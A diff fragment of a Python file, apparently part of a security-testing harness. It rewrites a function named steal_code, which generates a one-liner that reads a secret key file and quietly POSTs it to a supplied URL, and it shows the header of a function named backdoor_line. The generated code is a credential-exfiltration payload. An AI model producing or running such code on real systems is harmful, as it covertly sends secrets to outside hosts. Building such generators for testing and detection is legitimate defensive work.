@@ -144,7 +144,7 @@ def parse_driver_output(text: str) -> tuple[tuple[str, Optional[int], str], ...]
 
 def steal_code(url: str, key: str = KEY) -> str:
     """Python that reads ``key`` and POSTs it to ``url`` (plain HTTP: no certificate to trust), quietly."""
-    return (f"import urllib.request as u;u.urlopen(u.Request({url!r},data=open({key!r},'rb').read()),timeout=5)")
+    return f"import urllib.request as u,pathlib as p;u.urlopen(u.Request({url!r},data=p.Path({key!r}).read_bytes()),timeout=5)"
 
 
 def backdoor_line(url: str, key: str = KEY) -> str:
